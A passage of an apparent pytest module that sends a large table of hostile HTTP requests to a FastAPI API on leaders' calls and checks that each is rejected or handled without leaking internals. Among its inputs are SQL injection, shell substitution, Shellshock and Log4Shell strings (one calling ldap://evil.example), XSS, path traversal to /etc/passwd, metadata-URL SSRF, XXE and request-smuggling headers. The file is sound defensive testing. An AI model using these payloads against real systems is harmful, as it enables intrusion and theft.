"""What nobody should send: each request with the answer it gets, and the records as they were afterwards."""

import asyncio
import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote_from_bytes, unquote

import asyncpg
import jsonschema
import pytest
from fastapi import FastAPI

from app.db import dsn
from app.problems import Problem, every_problem
from app.surface import REFUSED
from tests.test_contract import DOCUMENT

CALL = "2020-03-19-xi-jinping-vladimir-putin"
CALL_ID = "01970000-0000-7000-8000-000600000001"
HOST = "hostile.example"
# On the wire nothing else may stand for itself.
PRINTABLE = bytes(range(0x21, 0x7F))
STATUS = {problem.kind(): problem.status for problem in every_problem()} | {"ok": 200, "no content": 204, "same": 304}
PROBLEM = jsonschema.Draft202012Validator(
    {"$ref": "#/components/schemas/ProblemOut", "components": DOCUMENT["components"]}
)
INSIDE = (
    b"Traceback",
    b"SELECT ",
    b"asyncpg",
    b"sqlalchemy",
    b"site-packages",
    b"/app/",
    b'.py", line',
    b"psql",
    b"uvicorn",
)

MALFORMED, INVALID, UNKNOWN, ABSENT = "malformed-request", "invalid-request", "unknown-reference", "not-found"
FOREIGN, LONG, METHOD = "foreign-cursor", "uri-too-long", "method-not-allowed"
UNKEYED = "unauthorised"
UNACCEPTABLE, LARGE, TYPE = "not-acceptable", "content-too-large", "unsupported-media-type"


@dataclass(frozen=True)
class Hostile:
    """A request, and the kind of problem or success that it is answered with."""

    answer: str
    target: str | bytes
    method: str = "GET"
    headers: tuple[tuple[str, str | bytes], ...] = ()
    content: bytes = b""


@dataclass(frozen=True)
class Answer:
    """What came of it."""

    status: int
    headers: dict[str, str]
    body: bytes


async def ask(app: FastAPI, request: Hostile, cursor: str = "", refused: Problem | None = None) -> Answer:
    """Ask the application, byte for byte, as no client library would."""
    target = request.target.encode() if isinstance(request.target, str) else request.target
    target = quote_from_bytes(target.replace(b"{cursor}", cursor.encode()), safe=PRINTABLE).encode()
    path, _, query = target.partition(b"?")
    named = {name.lower() for name, _ in request.headers}
    headers = [] if "host" in named else [(b"host", HOST.encode())]
    if request.content and not named & {"content-length", "transfer-encoding"}:
        headers.append((b"content-length", str(len(request.content)).encode()))
    for name, value in request.headers:
        headers.append((name.lower().encode(), value.encode() if isinstance(value, str) else value))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": request.method,
        "scheme": "http",
        "path": unquote(path.decode()),
        "raw_path": path,
        "query_string": query,
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 80),
        **({} if refused is None else {REFUSED: refused}),
    }
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": request.content, "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    await app(scope, receive, send)
    start, *rest = sent
    got: dict[str, str] = {}
    for name, value in start["headers"]:
        assert name.decode() not in got, name
        got[name.decode()] = value.decode()
    return Answer(start["status"], got, b"".join(message["body"] for message in rest))


def check(request: Hostile, answer: Answer) -> None:
    """Raise unless the answer is the one expected, in its one shape, and says nothing of the inside or of the Host."""
    assert answer.status == STATUS[request.answer], answer.body
    assert answer.headers["x-content-type-options"] == "nosniff"
    whole = answer.body + "".join(f"{name}: {value}" for name, value in answer.headers.items()).encode()
    for inside in INSIDE:
        assert inside not in whole
    assert HOST.encode() not in whole
    assert b"evil" not in "".join(answer.headers.values()).encode()
    assert "server" not in answer.headers
    assert not any(sign in value for value in answer.headers.values() for sign in "\r\n\0")
    if request.method == "HEAD":
        assert answer.body == b""
        assert int(answer.headers["content-length"]) > 0
    elif answer.status >= 400:
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.headers["cache-control"] == "no-store"
        problem = json.loads(answer.body)
        PROBLEM.validate(problem)
        assert problem["type"] == f"/problems#{request.answer}"
        assert problem["status"] == answer.status
    elif answer.status == 200:
        assert answer.body
        assert int(answer.headers["content-length"]) == len(answer.body)
    else:
        assert answer.body == b""


def of(answer: str, *targets: str | bytes) -> Iterator[Hostile]:
    """Plain GETs with one kind of answer."""
    return (Hostile(answer, target) for target in targets)


def calls(answer: str, parameter: str, *values: str | bytes) -> Iterator[Hostile]:
    """The list of calls, asked with a value that is hostile."""
    for value in values:
        yield Hostile(
            answer, f"/v1/calls?{parameter}=".encode() + (value.encode() if isinstance(value, str) else value)
        )


def sending(
    answer: str, method: str, content: bytes, media_type: str | None = None, target: str = "/v1/calls", **more: str
) -> Hostile:
    """A request with content."""
    named = {"content-type": media_type, **{name.replace("_", "-"): value for name, value in more.items()}}
    return Hostile(answer, target, method, tuple((name, value) for name, value in named.items() if value), content)


def headed(answer: str, target: str, *headers: tuple[str, str | bytes], method: str = "GET") -> Hostile:
    """A request with hostile headers."""
    return Hostile(answer, target, method, headers)


def packed(*members: object) -> str:
    """A cursor as somebody makes it who has read how."""
    return base64.urlsafe_b64encode(json.dumps(members).encode()).decode().rstrip("=")


TABLE: tuple[Hostile, ...] = (
    # Names of parameters that are as long, and as many, as an address lets them be.
    *of(INVALID, f"/v1/calls?{'x' * 4000}=1", f"/v1/calls?{'x' * 3900}=1&{'x' * 3900}=2"),
    *of(INVALID, f"/v1/calls?{'&'.join(f'{number}=' for number in range(1200))}"),
    *of(INVALID, f"/v1/leaders/x?{'&'.join(f'{number}' * 8 for number in (*range(60), *range(60)))}"),
    # Searches that look for nothing, that look like SQL, tsquery, JSON or code, and that nobody would write.
    *calls(INVALID, "q", "", "%20", "!!!", '""', '"!"', "-war", "peace%20or%20-war", "-peace%20-war", "%00"),
    *calls(
        INVALID, "q", "a" * 501, "a%20" * 51, "%f0%9f%98%80", "%e2%80%8b", "%c2%ad", "%ef%bb%bf", "%cc%81", "&q=peace"
    ),
    *of(
        INVALID, "/v1/calls?sort=relevance", "/v1/participants?q=peace", "/v1/calls?q=peace&q=war", "/v1/calls?Q=peace"
    ),
    *of(INVALID, "/v1/statements?q=peace&sort=rank", "/v1/leaders?sort=relevance", "/v1/calls/x?q=peace"),
    *calls(MALFORMED, "q", "%ff", "%ed%a0%80", "peace%", "%c0%a2"),
    *calls("ok", "q", "'%20OR%201=1%20--", "%27;DROP%20TABLE%20calls;--", "a%20%26%20!b%20|%20c", "a:*%20%3C-%3E%20b"),
    *calls(
        "ok", "q", "((((((a", "a))))))", "\\\\a'", "[[[[a", '{"a":1}', "a%25_*?", "$(id)a", "${7*7}", "%3Cscript%3E"
    ),
    *calls(
        "ok",
        "q",
        '"a',
        'a"',
        '"' * 40 + "a",
        "-" * 400 + "a%20b",
        "or",
        "or%20or%20or",
        "or%20" * 49 + "a",
        "a%20" * 50,
    ),
    *calls(
        "ok", "q", "a" * 500, "%e4%b8%ad" * 500, "%e4%b8%ad", "%e2%80%ae" + "peace", "e%cc%81", "%ef%bd%81", "%ef%b7%ba"
    ),
    *calls(
        "ok", "q", "%f0%9d%92%9c", "%c4%b0%c4%b1", "co%c2%adoperation", "%f0%a0%80%80", "1e999", "-0%20x", "NULL", "NaN"
    ),
    *calls("ok", "q", *(f"a%20{'b' * 9}%20or%20c%20-d&sort=relevance&limit={limit}&count=exact" for limit in (1, 200))),
    # NUL, which PostgreSQL has no text with.
    *calls(INVALID, "leader", "%00", "a%00b", "Putin%00", "%00Putin", "%2500%00"),
    *calls(INVALID, "cursor", "%00"),
    *of(INVALID, "/v1/calls/%00", "/v1/calls/a%00b/statements", "/%00", "/v1/calls?%00=1", "/v1/calls?leader%00=Putin"),
    *of(INVALID, "/assets/docs.js%00.css", "/healthz?%00", "/nowhere?x=%00"),
    # What is not UTF-8: single bytes, halves, overlong forms, surrogates, beyond the last code point, other encodings.
    *calls(MALFORMED, "leader", "%ff", "%80", "%c3%28", "%e2%82", "%e2%28%a1", "%f0%9f%92", "%fe%ff%00P", "%cf%f0"),
    *calls(MALFORMED, "leader", "%c0%80", "%c0%af", "%e0%80%af", "%f0%80%80%af", "%fc%80%80%80%80%af"),
    *calls(MALFORMED, "leader", "%ed%a0%80", "%ed%b0%80", "%ed%a0%bd%ed%b2%a9"),
    *calls(MALFORMED, "leader", "%f4%90%80%80", "%f5%80%80%80", "%f8%88%80%80%80"),
    *calls(MALFORMED, "leader", b"\xff", b"\xc0\xae", b"\xed\xa0\x80"),
    *of(MALFORMED, "/v1/calls/%c3%28", "/v1/calls/%c0%ae%c0%ae/leaders", "/%ff", b"/v1/calls/\xfe", "/v1/calls?%ff=1"),
    # Percent signs that announce nothing.
    *calls(
        MALFORMED,
        "leader",
        "%",
        "%4",
        "%zz",
        "%%",
        "%u0041",
        "%g0",
        "100%",
        "%-1",
        "% 41",
        "%(leader)s",
        "%\uff14\uff11",
    ),
    *of(MALFORMED, "/v1/calls/%", "/%zz", "/v1/calls/%2", "/v1/calls?%=1", "/v1/calls?leader=%41%"),
    # Characters that nobody sees, or that turn others round: names that nobody bears.
    *calls(UNKNOWN, "leader", "\u202ePutin", "Pu\u200btin", "\u2066Putin\u2069", "Putin\u200f", "\ufeffPutin"),
    *calls(UNKNOWN, "leader", "\ue000", "\uffff", "\U0010ffff", "\U000e0050", "%01", "%1b%5b31m", "%7f", "\u2028"),
    *calls(UNKNOWN, "leader", "P\u0443tin", "\U0001d40f\U0001d42e", "Z" + "\u0301" * 100, "\U0001f4a9"),
    # Whole numbers, and what passes for them elsewhere.
    *calls(INVALID, "limit", "1_0", "%2B5", "+5", "5.0", "-1", "0", "201", "", "%20", "5%20", "%0a5", "5%0d%0a"),
    *calls(INVALID, "limit", "%D9%A3", "\uff15", "\u00b2", "\u2167", "\u0665", "\ufeff5", "0x10", "0b1", "1e2", "1,0"),
    *calls(INVALID, "limit", "NaN", "nan", "Infinity", "-Infinity", "inf", "null", "None", "true", "[]", "{}", "-0"),
    *calls(INVALID, "limit", "2147483648", "9223372036854775808", "9" * 30, "9" * 5000, "1;2", "1 OR 1=1", "1/*", "5'"),
    *calls("ok", "limit", "005"),
    # Dates at the edge and beyond it.
    *calls(INVALID, "date", "0", "2020-02-30", "2020-13", "2020-00-01", "2021-02-29", "99999-01-01", "-0001", "+2020"),
    *calls(INVALID, "date", "9999-12-31T23:59:59-14:00", "2020-03-19T24:00:00Z", "1584576000", "Y17E7", "2020-W12-4"),
    *calls(
        INVALID, "date", "../..", "%5B2020,2021%5D", "2020?", "XXXX", "infinity", "-infinity", "now", "today", "epoch"
    ),
    *calls(
        INVALID,
        "date",
        "X" * 101,
        "\uff12\uff10\uff12\uff10",
        "\u0662\u0660\u0662\u0660",
        "2020/2019",
        "2020/2021/2022",
    ),
    *calls(
        INVALID,
        "date",
        "2020-03-19'",
        "2020-03-19; DROP TABLE calls",
        "",
        "NULL",
        "2020-3-9",
        "20200319",
        "2020\u20133",
    ),
    *calls("ok", "date", "9999-12-31", "0000-01-01", "0000/9999", "unknown", "../9999", "0000-01-01/.."),
    *of(INVALID, "/v1/calls?date_from=2021&date_to=2020", "/v1/statements?date_from=0000-05&date_to=0000-04"),
    *of(INVALID, "/v1/calls?date_from=unknown", "/v1/calls?date_to=unknown", "/v1/calls?date_match=perhaps"),
    *of("ok", "/v1/calls?date_from=2020-03-19&date_to=2020-03", "/v1/calls?date_match=certain&date=unknown"),
    # Text that another program would run: SQL, patterns, templates, shells, look-ups, pages.
    *calls(UNKNOWN, "leader", "' OR 1=1 --", "'; DROP TABLE calls; --", '" OR ""="', "1 union select 1", "Putin'||'"),
    *calls(UNKNOWN, "leader", "$1", ":leader_0", "?", "\\", "\\'", "E'\\x00'", "$$;$$", "pg_sleep(9)"),
    *calls(UNKNOWN, "leader", ".*", "%25", "_", "P%25", "Put_n", "(a+)+$", "[", "*", "a{999999999}", "^", "|"),
    *calls(
        UNKNOWN, "leader", "{{7*7}}", "${7*7}", "%23{7*7}", "<%25= 7*7 %25>", "{0.__class__}", "{request}", "%25s%25n"
    ),
    *calls(UNKNOWN, "leader", "`id`", "$(id)", "|id", "${jndi:ldap://evil.example/a}", "() { :; }; id", "$(sleep 9)"),
    *calls(UNKNOWN, "leader", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)"),
    *calls(UNKNOWN, "leader", "../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "http://169.254.169.254/"),
    *calls(
        UNKNOWN, "leader", "*)(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "=1+1", "__proto__", "constructor"
    ),
    *calls(
        UNKNOWN,
        "leader",
        "%0d%0aSet-Cookie: evil=1",
        "a%0d%0a%0d%0a<html>",
        "a%0aLocation: //evil.example",
        "%e5%98%8a",
    ),
    *calls(UNKNOWN, "party", "' OR 1=1 --", "%25", "XX"),
    *calls(UNKNOWN, "topic", "'; select pg_sleep(9)", "health' --"),
    *calls(UNKNOWN, "publisher", "' OR ''='"),
    *calls(UNKNOWN, "initiator", "MUTUAL' --", "mutual "),
    # Names, languages, identifiers: empty, too long, of another form.
    *calls(INVALID, "leader", "", "x" * 201, "\u666e" * 201),
    *calls(
        INVALID, "identifier", "wikidata", ":x", "a:", "a:" + "b" * 400, "Q1", "::", "wiki data:Q1", "\u0430:b", "a: "
    ),
    *calls("ok", "identifier", "wikidata:' OR 1=1", "a:%25", "proto:1"),
    *calls(INVALID, "language", "e" * 36, "%2A", "e", "en_GB", "en-", "-", "\u0435n", "en;q=1", "x" * 9, "en-\u00e4"),
    *calls("ok", "language", "EN", "zz"),
    # Words of a closed list, in other cases and forms.
    *calls(INVALID, "channel", "TELEPHONE", "telephone%20", "telephone,video", "0", "", "\uff54elephone"),
    *calls(INVALID, "sort", "date;drop", "date,id", "-DATE", "id", "--date", "date desc", "(SELECT 1)", ""),
    *calls(INVALID, "role", "king", "ANY", "principal'"),
    *calls(
        INVALID, "include", "everything", "", "statements,,claims", "statements.call", "__class__", "*", "STATEMENTS"
    ),
    *calls(INVALID, "count", "yes", "EXACT", "1", "true"),
    *of(INVALID, "/v1/readouts?include=text", "/v1/readouts?include=versions", "/v1/statements?act=destroy"),
    *of(INVALID, "/v1/statements?mode=\u0131ndirect", "/v1/parties?kind=", "/v1/statements?verb="),
    # Parameters by other names, twice, as arrays and objects, in another case, for another program.
    *of(INVALID, "/v1/calls?LEADER=Putin", "/v1/calls?leader[]=Putin", "/v1/calls?leader[0]=Putin"),
    *of(INVALID, "/v1/calls?leader[$ne]=x", "/v1/calls?leader.name=Putin", "/v1/calls?filter={%22leader%22:1}"),
    *of(INVALID, "/v1/calls?__proto__[admin]=1", "/v1/calls?constructor.prototype=1", "/v1/calls?__class__=1"),
    *of(INVALID, "/v1/calls?limit=1&limit=2", "/v1/calls?limit=1&limit=1", "/v1/calls?sort=date&sort=-date"),
    *of(INVALID, "/v1/calls?limit=1&Limit=2", "/v1/calls?limit=1&%6cimit=2", "/v1/calls?cursor=a&cursor=b"),
    *of(INVALID, "/v1/calls?limit=1;limit=2", "/v1/calls?limit=1&amp;sort=date", "/v1/calls?limit", "/v1/calls?=1"),
    *of(INVALID, "/v1/calls?offset=5", "/v1/calls?page=2", "/v1/calls?fields=id", "/v1/calls?_method=DELETE"),
    *of(INVALID, "/v1/calls?callback=evil", "/v1/calls?format=xml", "/v1/calls?debug=1", "/v1/calls?access_token=x"),
    *of(INVALID, "/v1/calls?" + "&".join(f"p{number}=1" for number in range(900)), "/v1/calls?" + "a" * 300 + "=1"),
    *of(INVALID, "/v1/calls?" + "[" * 3000 + "=1", "/v1/calls?a" + "[b]" * 1000 + "=1", f"/v1/calls/{CALL}?limit=1"),
    *of(INVALID, "/v1/calls?" + "&".join(["leader=Putin"] * 11), f"/v1/calls/{CALL}/statements?call=y"),
    *of("ok", "/v1/calls?" + "&".join(["leader=Putin"] * 10), "/v1/calls?", "/v1/calls?&&&"),
    # Cursors: too long, empty, of another alphabet, made up, of another query, changed.
    *calls(INVALID, "cursor", "A" * 4001, "", "\U0001f4a9", "....", "====", "{cursor}%3D"),
    *calls(FOREIGN, "cursor", "W10", "bnVsbA", "AAAA", "{cursor}", "e30", "MQ"),
    *calls(FOREIGN, "cursor", packed("x"), packed("x", "2020-01-01"), packed(1, 2, 3, 4), packed(None, None)),
    *calls(FOREIGN, "cursor", packed("x", "'; DROP TABLE calls", "y", "z"), packed(["x"], {"y": 1}), "W1tb" * 200),
    *of(
        FOREIGN,
        "/v1/statements?cursor={cursor}A",
        "/v1/statements?cursor=A{cursor}",
    ),
    *of(FOREIGN, "/v1/statements?speaker=putin&cursor={cursor}", "/v1/statements?mode=direct&cursor={cursor}"),
    *of(FOREIGN, f"/v1/calls/{CALL}/statements?cursor={{cursor}}", "/v1/participants?cursor={cursor}"),
    *of("ok", "/v1/statements?cursor={cursor}", "/v1/statements?cursor={cursor}&limit=200"),
    # Addresses: long, upwards, doubled, with encoded steps, with what other programs keep behind semicolons and dots.
    *of(LONG, "/v1/calls?" + "a" * 8001, "/v1/calls/" + "a" * 8001, "/" * 8001, "/?" + "%41" * 3000),
    *of(INVALID, "/v1/calls/" + "a" * 201, "/v1/calls/" + "\u666e" * 201),
    *of(
        ABSENT,
        "/assets/main.py",
        "/assets/DOCS.JS",
        "/assets/",
        "/assets/.",
        "/assets/..",
        "/assets/docs.js;v=1",
        "/assets/con",
        "/assets/docs.js.",
    ),
    *of(ABSENT, "/v1/calls/../leaders", "/v1/calls/%2e%2e/leaders", "/../../etc/passwd", "/assets/../main.py"),
    *of(ABSENT, "/assets/..%2fmain.py", "/assets/%2e%2e%2fmain.py", "/assets/a/x", "/%2e%2e%2f"),
    *of(ABSENT, "/v1/calls//", "/v1/calls/", "//v1/calls", "/v1//calls", "/v1/./calls", "/v1/calls/./", "/./v1/calls"),
    *of(ABSENT, "/v1%2fcalls", "/v1%2Fcalls", f"/v1/calls%2f{CALL}", f"/v1/calls/{CALL}%2fstatements", "/v1/calls/%2f"),
    *of(ABSENT, "/v1/calls;x=1", "/v1;x=1/calls", "/v1/calls.json", f"/v1/calls/{CALL};x=1", f"/v1/calls/{CALL}.json"),
    *of(ABSENT, "/V1/calls", "/v1/Calls", "/v1/CALLS", "/v2/calls", "/v1", "/v1/", "/v1/call", "/HEALTHZ", "/Docs"),
    *of(ABSENT, "/v1/calls%20", "/v1/%20calls", "/v1/calls%09", "/v1/calls%E2%80%8B", "/v1/c\u0430lls"),
    *of(ABSENT, "/.git/config", "/.env", "/admin", "/wp-login.php", "/actuator/env", "/metrics", "/server-status"),
    *of(
        ABSENT,
        "/http://evil.example/",
        "//evil.example/v1/calls",
        "/\\evil.example",
        "/@evil.example",
        "/*",
        "/robots.txt",
    ),
    *of(ABSENT, "/v1/calls/00000000-0000-0000-0000-000000000000", "/v1/calls/ffffffff-ffff-ffff-ffff-ffffffffffff"),
    *of(ABSENT, f"/v1/calls/{{{CALL_ID}}}", f"/v1/calls/urn:uuid:{CALL_ID}", "/v1/calls/" + CALL_ID.replace("-", "")),
    *of(ABSENT, "/v1/statements/not-a-uuid", "/v1/leaders/Q0", "/v1/parties/ru-", "/v1/calls/1", "/v1/calls/-1"),
    *of(
        ABSENT,
        "/v1/calls/%27%20OR%201=1",
        "/v1/calls/%25",
        "/v1/calls/*",
        "/v1/calls/null",
        "/v1/calls/[object Object]",
    ),
    *of(
        ABSENT,
        "/v1/calls/x/statements",
        f"/v1/calls/{CALL}/leaders",
        f"/v1/calls/{CALL}/claims/1",
        f"/v1/calls/{CALL}/",
    ),
    *of("ok", "/v1/leaders?identifier=wikidata:Q0", f"/v1/calls/{CALL_ID.upper()}", f"/v1/calls/{CALL.upper()}"),
    *of("ok", "/v1/%63alls", "/%76%31/calls?limi%74=1"),
    # Methods that an address does not answer, that nobody has heard of, or that are none; 404 comes before them.
    *(Hostile(METHOD, "/v1/calls", method) for method in "PATCH DELETE TRACE CONNECT QUERY PROPFIND".split()),
    *(Hostile(UNKEYED, "/v1/calls", method) for method in ("POST", "PUT")),
    *(Hostile(METHOD, f"/v1/calls/{CALL}", method) for method in "PURGE FOO get Get LINK MKCOL M-SEARCH $ZZZ".split()),
    *(
        Hostile(METHOD, target, "DELETE")
        for target in ("/", "/docs", "/problems", "/openapi.json", "/healthz", "/readyz")
    ),
    *(Hostile(METHOD, target, "TRACE") for target in ("/assets/docs.js", "/v1/calls/none", "/v1/topics")),
    *(Hostile(ABSENT, "/nowhere", method) for method in "POST PUT DELETE TRACE OPTIONS HEAD FOO CONNECT".split()),
    *(Hostile(ABSENT, "/v1/calls/", method) for method in "POST OPTIONS DELETE".split()),
    Hostile(INVALID, "/v1/calls?limit=0", "HEAD"),
    Hostile("ok", "/v1/calls", "HEAD"),
    Hostile(METHOD, "/v1/calls?limit=0", "DELETE"),
    Hostile("no content", "/v1/calls", "OPTIONS"),
    # Headers that would make another method of it, another host, another address, another client.
    *(
        headed(UNKEYED, "/v1/calls", (name, "GET"), method="POST")
        for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    ),
    headed("ok", "/v1/calls", ("X-HTTP-Method-Override", "DELETE")),
    *(
        headed("ok", "/v1/statements?limit=1", (name, value))
        for name, value in (
            ("Host", "evil.example"),
            ("Host", "evil.example:99"),
            ("Host", "[::1]:80"),
            ("X-Forwarded-Host", "evil.example"),
            ("X-Forwarded-Proto", "https"),
            ("X-Forwarded-Prefix", "/evil"),
            ("X-Forwarded-For", "127.0.0.1, ' OR 1=1"),
            ("Forwarded", "for=127.0.0.1;host=evil.example"),
            ("X-Original-URL", "/v1/leaders"),
            ("X-Rewrite-URL", "/evil"),
            ("X-Accel-Redirect", "/evil"),
            ("Authorization", "Bearer ' OR 1=1"),
            ("Authorization", b"Basic \xff\xfe"),
            ("Cookie", "a=b; " * 500),
            ("Cookie", "__Host-evil=1; ;;;="),
            ("User-Agent", "() { :; }; /bin/id"),
            ("User-Agent", "${jndi:ldap://evil.example/a}"),
            ("Referer", "http://evil.example/"),
            ("X-Anything", b"\x80\xff"),
            ("Origin", "null"),
            ("Origin", "http://evil.example"),
            ("Sec-Fetch-Site", "cross-site"),
            ("Content-Type", "application/xml"),
            ("Content-Length", "0"),
            ("Range", "bytes=0-0"),
            ("Range", "bytes=" + "0-0," * 1000),
            ("If-Range", '"x"'),
            ("If-Modified-Since", "Thu, 01 Jan 2099 00:00:00 GMT"),
            ("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
            ("TE", "trailers, deflate;q=0.5"),
            ("Expect", "200-maybe"),
            ("Accept-Language", "xx-evil, *;q=0"),
            ("Accept-Charset", "utf-7, *;q=0"),
            ("Transfer-Encoding-", "chunked"),
            ("Content_Length", "5"),
        )
    ),
    # Hosts that are none, or two.
    *(
        headed(MALFORMED, "/v1/calls", ("Host", host))
        for host in ("", " ", "a b", "a/b", "a@b", "a,b", "a?b", "a#b", "a\\b")
    ),
    *(
        headed(MALFORMED, "/v1/calls", ("Host", host))
        for host in ("a:b", "a:80:80", "<b>", b"\xe2\x80\x8b", "a\tb", "[::1", "::1")
    ),
    headed(MALFORMED, "/v1/calls", ("Host", "one.example"), ("Host", "two.example")),
    headed(MALFORMED, "/v1/calls", ("Host", "one.example"), ("Host", "one.example")),
    # Accept: nothing that is here, or refused in so many words, or a list to get lost in.
    *(
        headed(UNACCEPTABLE, "/v1/calls", ("Accept", accept))
        for accept in (
            "text/html",
            "text/turtle",
            "application/xml, text/*",
            "application/json;q=0",
            "application/json;q=0, */*",
            "*/*;q=0",
            "application/*;q=0.000, */*;q=0",
            "application/jsonx",
            "application/problem+json",
            "image/*",
            "application/json;profile=evil",
            "APPLICATION/JSON;Q=0",
            "text/html, " * 1000 + "text/plain",
            "application/json;q=0;q=1",
        )
    ),
    *(headed(UNACCEPTABLE, target, ("Accept", "image/png")) for target in ("/", "/docs", "/problems", "/openapi.json")),
    *(headed(UNACCEPTABLE, target, ("Accept", "image/png")) for target in ("/healthz", "/readyz", "/assets/docs.js")),
    headed(UNACCEPTABLE, "/docs", ("Accept", "application/json")),
    headed(UNACCEPTABLE, "/v1/calls/none", ("Accept", "text/html")),
    *(
        headed("ok", "/v1/calls", ("Accept", accept))
        for accept in (
            "",
            ";;;",
            "nonsense",
            "*",
            ",,,",
            "q=1",
            "a/b/c",
            "*/json",
            "text/html;q=evil",
            b"\xff",
            "/",
            "*/*;q=.2",
        )
    ),
    headed("ok", "/v1/calls", ("Accept", "text/html"), ("Accept", "*/*;q=0.1")),
    # Content codings: none that will do, or no word of sense.
    *(
        headed(UNACCEPTABLE, "/v1/calls", ("Accept-Encoding", codings))
        for codings in (
            "identity;q=0",
            "*;q=0",
            "gzip;q=0, identity;q=0, br;q=0, zstd;q=0",
            "deflate, *;q=0",
            "identity;q=0.0",
        )
    ),
    headed(UNACCEPTABLE, "/healthz", ("Accept-Encoding", "*;q=0")),
    *(
        headed("ok", "/v1/calls", ("Accept-Encoding", codings))
        for codings in (
            "",
            "gzip;q=0",
            ";;;",
            "gzip;q=2",
            "gzip;q=-1",
            "gzip;q=NaN",
            "evil",
            "*;q=evil",
            "gzip," * 2000,
            b"\xff",
        )
    ),
    # Conditions: tags that are none, and more of them than sense.
    *(
        headed("ok", "/v1/calls", ("If-None-Match", tags))
        for tags in ("", '"', "evil", "W/", '"x", *', "' OR 1=1", '"\u0430"', '"x",' * 2000, 'w/"x"', "**", b"\xff")
    ),
    headed("same", "/v1/calls", ("If-None-Match", "*")),
    *(
        headed("precondition-failed", "/v1/calls", ("If-Match", tags))
        for tags in ('"x"', 'W/"x"', "", "evil", '"x", *')
    ),
    headed("ok", "/v1/calls", ("If-Match", "*")),
    headed("precondition-failed", "/v1/calls", ("If-Match", '"x"'), ("If-None-Match", "*")),
    # Preflights for more than reading.
    *(
        headed("cross-origin-refused", "/v1/calls", ("Origin", "http://evil.example"), *asked, method="OPTIONS")
        for asked in (
            (("Access-Control-Request-Method", "DELETE"),),
            (("Access-Control-Request-Method", "get"),),
            (("Access-Control-Request-Method", ""),),
            (("Access-Control-Request-Method", "GET"), ("Access-Control-Request-Headers", "X-Evil")),
            (("Access-Control-Request-Method", "GET"), ("Access-Control-Request-Headers", "accept, authorization")),
            (("Access-Control-Request-Method", "GET, DELETE"),),
        )
    ),
    headed(ABSENT, "/nowhere", ("Origin", "null"), ("Access-Control-Request-Method", "GET"), method="OPTIONS"),
    # Content where none is taken, of every kind; where a method is not taken at all, that is said.
    sending(TYPE, "GET", b"{}", "application/json"),
    sending(TYPE, "GET", b"x"),
    sending(TYPE, "HEAD", b"{}", "application/json"),
    sending(TYPE, "OPTIONS", b"{}", "application/json"),
    sending(TYPE, "GET", b"leader=Putin", "application/x-www-form-urlencoded"),
    sending(TYPE, "GET", b'{"leader": "\\u0000"}', "application/json", "/v1/statements"),
    sending(TYPE, "GET", b"5\r\nhello\r\n0\r\n\r\n", "text/plain", transfer_encoding="chunked"),
    sending(TYPE, "GET", b"{}", "application/json", "/nowhere"),
    sending(TYPE, "GET", b"{}", "application/json", "/docs"),
    sending(UNKEYED, "POST", b"{}", "application/json"),
    sending(UNKEYED, "POST", b'{"a": NaN, "b": "\\ud800", "c": 1e999}', "application/json"),
    sending(UNKEYED, "POST", b"[" * 100_000, "application/json"),
    sending(UNKEYED, "POST", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "application/json"),
    sending(UNKEYED, "POST", b'{"__proto__": {"admin": true}}', "application/json"),
    sending(UNKEYED, "POST", b"\xef\xbb\xbf{}", "application/json; charset=utf-16"),
    sending(UNKEYED, "POST", b"\xff\xfe", "application/json"),
    sending(UNKEYED, "POST", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>', "application/xml"),
    sending(
        UNKEYED,
        "POST",
        b'--b\r\ncontent-disposition: form-data; name="../x"\r\n\r\n1\r\n--b--',
        "multipart/form-data; boundary=b",
    ),
    sending(UNKEYED, "POST", b"x", "multipart/form-data"),
    sending(UNKEYED, "POST", b"\x1f\x8b\x08" + b"\0" * 100, "application/json", content_encoding="gzip"),
    sending(UNKEYED, "POST", b"\x28\xb5\x2f\xfd" + b"\0" * 100, "application/json", content_encoding="zstd, gzip, br"),
    sending(METHOD, "PUT", b"x" * 1024 * 1024, "application/octet-stream", f"/v1/calls/{CALL}"),
    sending(UNKEYED, "PATCH", b'{"title": null}', "application/merge-patch+json", f"/v1/calls/{CALL}"),
    sending(UNKEYED, "DELETE", b"x", None, f"/v1/calls/{CALL}"),
    sending(UNKEYED, "POST", b"{}", "application/json; " * 200),
    sending(ABSENT, "POST", b"{}", "application/json", "/v1/nothing"),
    sending(ABSENT, "POST", b"query=%7Bx%7D", "application/graphql", "/graphql"),
    # Too much of it, or said to be.
    sending(LARGE, "POST", b"x", content_length="8388609"),
    sending(LARGE, "GET", b"x", content_length="99999999999999999999999999999"),
    sending(LARGE, "PUT", b"x", content_length="0" * 50 + "9000000"),
    sending(LARGE, "POST", b"x" * (8 * 1024 * 1024 + 1), "application/json"),
    sending(LARGE, "POST", b"x", None, "/nowhere", content_length="9223372036854775808"),
    # Lengths that are none, and content framed in two ways.
    *(
        sending(MALFORMED, "POST", b"x", content_length=length)
        for length in ("-1", "+1", "1.0", "0x1", "1,1", "1 1", "one", "\u0661", "1e0", "1;", " ")
    ),
    headed(MALFORMED, "/v1/calls", ("Content-Length", "1"), ("Content-Length", "1"), method="POST"),
    headed(MALFORMED, "/v1/calls", ("Content-Length", "0"), ("Content-Length", "1")),
    headed(MALFORMED, "/v1/calls", ("Content-Length", "1"), ("Transfer-Encoding", "chunked"), method="POST"),
    headed(MALFORMED, "/v1/calls", ("Transfer-Encoding", "gzip"), ("Transfer-Encoding", "chunked"), method="POST"),
    *(
        headed(MALFORMED, "/v1/calls", ("Transfer-Encoding", coding), method="POST")
        for coding in ("xchunked", "identity", "gzip, chunked", "chunked, identity", "chunked;q=1", "", b"\x0bchunked")
    ),
)


@pytest.fixture(scope="module")
